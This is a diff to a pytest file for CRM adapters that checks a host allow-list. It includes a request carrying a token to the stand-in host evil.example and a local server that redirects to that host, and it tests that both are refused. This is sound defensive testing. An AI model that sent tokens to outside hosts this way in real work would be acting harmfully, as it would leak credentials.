@@ -1,6 +1,8 @@
 """A delete, an unlisted field, an unlisted object, an unlisted host: each refused with one sentence, and nothing was sent."""
 
+import threading
 from collections.abc import Callable, Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
 
@@ -11,6 +13,7 @@ from adapters.hubspot.client import Client as HubSpotClient
 from adapters.hubspot.failures import Operation
 from adapters.salesforce.client import Client as SalesforceClient
 from adapters.salesforce.client import ConditionalPatch
+from adapters.salesforce.transport import open_session
 from adapters.sandbox.client import SandboxClient
 from adapters.sandbox.sandbox import start
 from config.mapping import shipped_mapping
@@ -119,6 +122,27 @@ def test_salesforce_hosts(crm: SandboxClient, salesforce: SalesforceClient) -> N
     sentence = refused(crm, lambda: session.get("https://evil.example/services/data?token=hush"))
     assert "evil.example" in sentence
     assert "hush" not in sentence
+
+
+def test_a_redirect_is_asked_about_like_any_other_request() -> None:
+    class Elsewhere(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            self.send_response(302)
+            self.send_header("Location", "http://evil.example/")
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+
+        def log_message(self, *_: object) -> None:
+            """Says nothing."""
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        url = f"http://127.0.0.1:{server.server_address[1]}/"
+        with open_session(url, connect_seconds=3, total_seconds=5) as session:
+            assert session.get(url, allow_redirects=False).status_code == 302
+            with pytest.raises(UnlistedError, match=r"evil\.example was refused"):
+                session.get(url)
+        server.shutdown()
 
 
 def test_hubspot_fields_and_objects(crm: SandboxClient, hubspot: HubSpotClient) -> None:
